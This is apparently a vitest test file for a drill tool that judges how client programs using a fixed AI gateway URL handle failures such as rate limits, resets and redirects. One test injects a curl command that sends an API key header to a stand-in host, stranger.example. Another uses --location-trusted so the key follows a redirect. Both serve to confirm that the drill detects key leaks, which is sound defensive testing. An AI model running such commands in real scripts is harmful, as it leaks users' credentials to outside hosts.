/** Programs whose gateway is fixed: they come to the drill's through a proxy, and nobody else does. */
import * as Effect from "effect/Effect";
import { join } from "node:path";
import { assert, describe, it } from "vitest";
import { drill, type DrillOptions, type DrillReport, type ScenarioId } from "../../src/drill/index.ts";

const gateway = "https://gateway.example/v1/ai";
const pace = { coldMs: 300, slowMs: 300, retryAfterMs: 1_000, workMs: 300 };

const held = (options: DrillOptions): Promise<DrillReport> =>
  Effect.runPromise(drill({ pace, jobs: 3, patienceMs: 10_000, fixedUrl: gateway, ...options }));

const foundIn = (report: DrillReport): ReadonlyArray<string> =>
  report.scenarios.map(({ id, verdict, wrong }) => `${id}: ${wrong ?? verdict}`);

const broken: ReadonlyArray<ScenarioId> = ["rate-limit", "closed-socket", "null-result", "reset-unread", "redirect"];

describe("a program with a fixed URL", () => {
  it("is judged as any other, in Node", async () => {
    const report = await held({
      command: [process.execPath, join(import.meta.dirname, "programs/fixed.mjs")],
      only: [...broken, "truncated-answer"],
    });
    assert.deepEqual(foundIn(report), [
      "rate-limit: did not come back",
      "closed-socket: did not ask again",
      "null-result: right",
      "reset-unread: did not ask again",
      "truncated-answer: right",
      "redirect: right",
    ]);
    assert.strictEqual(report.scenarios[0]?.requests[0]?.path, "/text-to-image");
  });

  const body = JSON.stringify({ model_id: "a/b", prompt: "a" });
  const curl = (...args: ReadonlyArray<string>) =>
    [
      "sh",
      "-c",
      `exec curl -sS --fail -d '${body}' -H "Authorization: Bearer $LIVEPEER_API_KEY" "$@"`,
      "sh",
      ...args,
    ] as const;

  it("is judged as any other, in curl", async () => {
    const report = await held({
      command: curl("--retry", "1", "--retry-all-errors", `${gateway}/text-to-image`),
      only: broken,
    });
    assert.deepEqual(foundIn(report), [
      "rate-limit: right",
      "closed-socket: right",
      "null-result: took `null` for a result: exit code 0",
      "reset-unread: right",
      "redirect: right",
    ]);
  });

  it("is wrong when it takes its key along a redirect, or to a stranger", async () => {
    const trusting = await held({
      command: curl("-L", "--location-trusted", `${gateway}/text-to-image`),
      only: ["redirect"],
    });
    assert.deepEqual(foundIn(trusting), ["redirect: sent its key to another origin"]);
    const [shell, flag, script, ...rest] = curl(`${gateway}/text-to-image`);
    const tell = 'curl -s -o /dev/null -H "X-Key: $LIVEPEER_API_KEY" http://stranger.example/';
    const telling = await held({ command: [shell, flag, `${tell}; ${script}`, ...rest], only: ["retired"] });
    assert.deepEqual(foundIn(telling), ["retired: sent its key to stranger.example"]);
  });

  it("keeps its path where the gateway is Studio", async () => {
    const studio = "https://livepeer.studio/api/beta/generate";
    const report = await held({
      command: curl("-H", "Content-Type: application/json", `${studio}/text-to-image`),
      fixedUrl: studio,
      dialect: "studio",
      only: ["wrong-key"],
    });
    assert.deepEqual(foundIn(report), ["wrong-key: right"]);
    assert.strictEqual(report.scenarios[0]?.requests[0]?.path, "/api/beta/generate/text-to-image");
  });
});
